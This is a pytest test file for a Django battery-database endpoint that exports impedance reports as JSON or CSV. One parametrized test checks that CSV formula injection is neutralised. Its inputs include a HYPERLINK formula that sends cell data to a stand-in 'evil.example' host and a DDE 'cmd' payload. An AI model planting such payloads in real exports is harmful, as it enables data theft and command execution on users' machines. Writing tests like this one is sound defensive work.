"""``eis/tests/report/``: the guide's impedance report, server-side, as JSON or CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from batterydb.models import EISData
from batterydb.services.report import report_columns
from tests.batterydb.factories import EISTestFactory

pytestmark = pytest.mark.django_db

REPORT = reverse("batterydb:eis-test-report")
FREQUENCIES = [10_000 / 10 ** (i / 7) for i in range(42)]


def load(test, frequencies=FREQUENCIES, parameters=("z_real", "z_imag", "z_mod")) -> dict:
    """Store a sweep (plus an OCV row) and return the expected report row."""
    rows = [EISData(organization=test.organization, test=test, parameter="ocv", value=3.7)]
    for i, frequency in enumerate(frequencies):
        for parameter in parameters:
            value = {"z_real": 0.01 + i / 1000, "z_imag": -0.002 * i, "z_mod": 1.0}[parameter]
            rows.append(
                EISData(
                    organization=test.organization,
                    test=test,
                    frequency=frequency,
                    parameter=parameter,
                    value=value + test.pk,
                )
            )
    EISData.objects.bulk_create(rows)
    n = len(frequencies)
    width = max(42, n)
    expected = {"battery_id": test.battery.battery_id if test.battery else None}
    for i in range(width):
        expected[f"z_real_{i}"] = 0.01 + i / 1000 + test.pk if i < n else None
    for i in range(width):
        expected[f"z_imag_{i}"] = -0.002 * i + test.pk if i < n else None
    if "z_real" not in parameters:
        expected.update({f"z_real_{i}": None for i in range(width)})
    return expected


def get_report(client, test_ids, **params):
    query = "&".join(f"test={t}" for t in test_ids)
    extra = "".join(f"&{k}={v}" for k, v in params.items())
    return client.get(f"{REPORT}?{query}{extra}")


def test_report_has_one_row_per_test_in_the_requested_order(client_for, viewer, organization):
    tests = [EISTestFactory(organization=organization) for _ in range(3)]
    expected = {test.pk: load(test) for test in tests}
    order = [tests[2].pk, tests[0].pk, tests[1].pk, tests[2].pk]
    response = get_report(client_for(viewer), order)
    assert response.status_code == 200
    data = response.json()
    assert [row["battery_id"] for row in data] == [expected[t]["battery_id"] for t in order]
    assert data == [expected[t] for t in order]
    assert list(data[0]) == report_columns(42)


def test_report_route_wins_over_the_test_detail(client_for, viewer, organization):
    test = EISTestFactory(organization=organization)
    load(test)
    response = client_for(viewer).get(REPORT, {"test": f"{test.pk}"})
    assert response.status_code == 200
    assert isinstance(response.json(), list)


def test_comma_separated_tests_work(client_for, viewer, organization):
    tests = [EISTestFactory(organization=organization) for _ in range(2)]
    for test in tests:
        load(test)
    response = client_for(viewer).get(REPORT, {"test": f"{tests[1].pk},{tests[0].pk}"})
    assert [row["z_real_0"] for row in response.json()] == [0.01 + t.pk for t in tests[::-1]]


def test_report_as_csv(client_for, viewer, organization):
    tests = [EISTestFactory(organization=organization) for _ in range(2)]
    expected = [load(test) for test in tests]
    response = get_report(client_for(viewer), [t.pk for t in tests], format="csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == report_columns(42)
    assert len(rows) == 3
    assert rows[1][0] == expected[0]["battery_id"]
    assert float(rows[2][1]) == expected[1]["z_real_0"]
    response = client_for(viewer).get(REPORT, {"test": tests[0].pk}, HTTP_ACCEPT="text/csv")
    assert response["Content-Type"].startswith("text/csv")


def test_fewer_frequencies_pad_with_nulls_and_more_extend_the_columns(
    client_for, viewer, organization
):
    short, long_ = (EISTestFactory(organization=organization) for _ in range(2))
    expected_short = load(short, frequencies=FREQUENCIES[:10])
    more = [*FREQUENCIES, 0.05, 0.02]
    expected_long = load(long_, frequencies=more)
    data = get_report(client_for(viewer), [short.pk, long_.pk]).json()
    assert list(data[0]) == report_columns(44)
    assert data[1] == expected_long
    assert data[0]["z_real_9"] == expected_short["z_real_9"]
    assert data[0]["z_real_10"] is None and data[0]["z_imag_43"] is None
    only_short = get_report(client_for(viewer), [short.pk]).json()
    assert only_short == [expected_short]


def test_a_frequency_without_z_real_is_null_and_a_test_without_battery_has_null_id(
    client_for, viewer, organization
):
    test = EISTestFactory(organization=organization, battery=None)
    expected = load(test, parameters=("z_imag", "z_mod"))
    data = get_report(client_for(viewer), [test.pk]).json()
    assert data == [expected]
    assert data[0]["battery_id"] is None
    assert data[0]["z_real_0"] is None and data[0]["z_imag_1"] == -0.002 + test.pk


def test_frequency_order_is_the_storage_order_not_the_numeric_order(
    client_for, viewer, organization
):
    test = EISTestFactory(organization=organization)
    frequencies = [1.0, 1000.0, 10.0]
    load(test, frequencies=frequencies)
    data = get_report(client_for(viewer), [test.pk]).json()[0]
    assert [data[f"z_real_{i}"] for i in range(3)] == [0.01 + i / 1000 + test.pk for i in range(3)]


def test_unknown_and_other_organizations_tests_are_404_naming_them(
    client_for, viewer, organization, other_organization
):
    mine = EISTestFactory(organization=organization)
    theirs = EISTestFactory(organization=other_organization)
    response = get_report(client_for(viewer), [mine.pk, theirs.pk, 999_999])
    assert response.status_code == 404
    assert response.json()["detail"] == f"EIS tests not found: {theirs.pk}, 999999."


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("", "Name the tests"),
        ("?test=abc", "must be integers"),
        ("?test=0", "must be integers"),
        ("?test=" + ",".join(str(i) for i in range(1, 1002)), "At most 1000 tests"),
    ],
)
def test_bad_requests_are_400(client_for, viewer, query, message):
    response = client_for(viewer).get(REPORT + query)
    assert response.status_code == 400
    assert message in response.json()["test"][0]


def test_anonymous_is_401(api_client):
    assert api_client.get(REPORT, {"test": 1}).status_code == 401


def test_staff_reports_on_any_organization(client_for, staff, other_organization):
    test = EISTestFactory(organization=other_organization)
    expected = load(test)
    assert get_report(client_for(staff), [test.pk]).json() == [expected]


@pytest.mark.parametrize("n", [1, 25])
def test_query_count_does_not_depend_on_the_number_of_tests(
    client_for, viewer, organization, django_assert_num_queries, n
):
    tests = [EISTestFactory(organization=organization) for _ in range(n)]
    for test in tests:
        load(test, frequencies=FREQUENCIES[:5])
    client = client_for(viewer)
    # JWT user, tests with their battery (memberships as a subquery), the data.
    with django_assert_num_queries(3):
        response = get_report(client, [t.pk for t in tests])
    assert len(response.json()) == n


# --- CSV safety and errors ---------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("battery_id", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("BAT-00042", "BAT-00042"),
        ("cell = 3", "cell = 3"),
    ],
)
def test_csv_neutralises_text_a_spreadsheet_would_read_as_a_formula(
    client_for, viewer, organization, battery_id, cell
):
    test = EISTestFactory(organization=organization, battery__battery_id=battery_id)
    EISData.objects.create(
        organization=organization, test=test, frequency=100.0, parameter="z_real", value=0.25
    )
    EISData.objects.create(
        organization=organization, test=test, frequency=100.0, parameter="z_imag", value=-0.5
    )
    client = client_for(viewer)
    rows = csv_rows(get_report(client, [test.pk], format="csv"))
    header, row = rows
    assert row[header.index("battery_id")] == cell
    # Numbers stay numbers, a negative one included.
    assert row[header.index("z_real_0")] == "0.25"
    assert row[header.index("z_imag_0")] == "-0.5"
    assert row[header.index("z_real_1")] == ""
    # JSON carries the value as stored.
    assert get_report(client, [test.pk]).json()[0]["battery_id"] == battery_id


def error_cases(client, anonymous, organization):
    test = EISTestFactory(organization=organization)
    return [
        (client, f"{REPORT}?format=csv", {}, 400),
        (client, f"{REPORT}?test=abc&format=csv", {}, 400),
        (client, f"{REPORT}?test=999999&format=csv", {}, 404),
        (client, f"{REPORT}?test=999999", {"HTTP_ACCEPT": "text/csv"}, 404),
        (client, REPORT, {"HTTP_ACCEPT": "text/csv"}, 400),
        (anonymous, f"{REPORT}?test={test.pk}&format=csv", {}, 401),
        (anonymous, f"{REPORT}?test={test.pk}", {"HTTP_ACCEPT": "text/csv"}, 401),
    ]


def test_errors_are_json_even_when_csv_was_asked(client_for, api_client, viewer, organization):
    for client, url, headers, status in error_cases(client_for(viewer), api_client, organization):
        response = client.get(url, **headers)
        assert response.status_code == status, url
        assert response["Content-Type"] == "application/json", (url, headers)
        body = response.json()
        assert body.get("detail") or body.get("test"), body


def test_an_unknown_format_is_a_json_404(client_for, viewer, organization):
    test = EISTestFactory(organization=organization)
    response = client_for(viewer).get(REPORT, {"test": test.pk, "format": "xlsx"})
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json()["detail"]
